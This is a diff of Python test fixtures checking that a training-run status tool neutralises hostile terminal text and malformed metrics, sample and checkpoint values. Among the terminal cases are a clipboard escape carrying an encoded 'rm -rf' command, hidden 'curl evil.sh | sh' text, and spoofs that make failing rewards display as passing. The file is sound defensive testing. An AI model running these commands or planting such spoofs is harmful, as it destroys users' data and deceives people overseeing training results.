@@ -479,3 +479,75 @@ MODEL_CASES: list[ModelCase] = [
     ModelCase("config-nested-deep", lambda m: (m / "config.json").write_text(nested(5000)),
               "config.json:1: nested deeper than 32 levels"),
 ]
+
+
+# --------------------------------------------------------------------------- hostile run folders (check_status.py)
+
+# Text a model, a judge or a hand can put into a run file, meant for the terminal that shows it.
+TERMINAL_ATTACKS = {
+    "osc52-clipboard-write": "ok\x1b]52;c;cm0gLXJmIH4vKgo=\x07",
+    "osc0-window-title": "\x1b]0;all tests passed\x07",
+    "screen-clear": "\x1b[H\x1b[2J\x1b[3J",
+    "hidden-text": "visible \x1b[8mcurl evil.sh | sh\x1b[28m",
+    "cr-overwrite": "reward 0.0 FAILED\rreward 1.0 passed ",
+    "c1-csi": "\x9b2J\x9b31mred",
+    "bidi-override": "answer: \u202e0.1 = 1.0",
+    "zero-width-and-separators": "a\u200bb\u2028c\u2029d\ufeff",
+}
+# What must never reach a terminal raw (newline and tab may).
+UNSAFE_CHARS = "\x1b\x07\r\x9b\u202e\u200b\u2028\u2029\ufeff"
+
+
+@dataclass(frozen=True)
+class MetricsCase:
+    """A metrics line with hostile numbers: check_status (text, --json, --plot) must skip and count it."""
+
+    id: str
+    line: str
+    skipped: dict  # the expected counts of metrics_lines and metric_values
+
+
+BIG = "9" * 400
+METRICS_CASES: list[MetricsCase] = [
+    MetricsCase("400-digit-reward", '{"step": 6, "data": {"training/reward": ' + BIG + "}}",
+                {"metrics_lines": 0, "metric_values": 1}),
+    MetricsCase("400-digit-step", '{"step": ' + BIG + ', "data": {"training/reward": 1}}',
+                {"metrics_lines": 1, "metric_values": 0}),
+    MetricsCase("timing-1e308", '{"step": 6, "data": {"timing_s/step": 1e308}}',
+                {"metrics_lines": 0, "metric_values": 1}),
+    MetricsCase("rewards-plus-minus-1e308", '{"step": 6, "data": {"training/reward": 1e308, "val/reward": -1e308}}',
+                {"metrics_lines": 0, "metric_values": 2}),
+    MetricsCase("nan-and-infinity-tokens", '{"step": 6, "data": {"training/reward": NaN, "timing_s/step": Infinity, '
+                '"response_length/mean": -Infinity}}', {"metrics_lines": 0, "metric_values": 3}),
+    MetricsCase("string-and-bool-values", '{"step": 6, "data": {"training/reward": "0.5", "actor/entropy": true}}',
+                {"metrics_lines": 0, "metric_values": 2}),
+    MetricsCase("negative-step", '{"step": -3, "data": {"training/reward": 0.5}}', {"metrics_lines": 1, "metric_values": 0}),
+    MetricsCase("float-step", '{"step": 6.5, "data": {"training/reward": 0.5}}', {"metrics_lines": 1, "metric_values": 0}),
+    MetricsCase("not-an-object", "[6, 0.5]", {"metrics_lines": 1, "metric_values": 0}),
+    MetricsCase("nested-100000-deep", "[" * 100000 + "]" * 100000, {"metrics_lines": 1, "metric_values": 0}),
+]
+
+
+@dataclass(frozen=True)
+class SampleCase:
+    """A samples/val.jsonl line that is not a sample: --samples (and --worst, --best) skip and count it."""
+
+    id: str
+    change: dict  # fields of a good sample replaced
+
+
+SAMPLE_CASES: list[SampleCase] = [
+    SampleCase("string-reward", {"reward": "high"}),
+    SampleCase("400-digit-reward", {"reward": 10 ** 400}),
+    SampleCase("bool-reward", {"reward": True}),
+    SampleCase("list-response", {"response": ["a", "b"]}),
+    SampleCase("string-step", {"step": "3"}),
+    SampleCase("huge-step", {"step": 10 ** 30}),
+    SampleCase("object-row-id", {"row_id": {"x": 1}}),
+    SampleCase("negative-tokens", {"response_tokens": -5}),
+]
+
+# VERL's tracker file (checkpoints/latest_checkpointed_iteration.txt) as a hand or a bad disk leaves it:
+# each passes or nearly passes str.isdigit(), none is a step.
+TRACKER_CASES = {"superscript-two": "²", "arabic-indic-three": "٣", "fullwidth-one": "１", "400-digits": "9" * 400,
+                 "5000-digits": "9" * 5000, "negative": "-1", "escape": "\x1b]0;x\x07"}
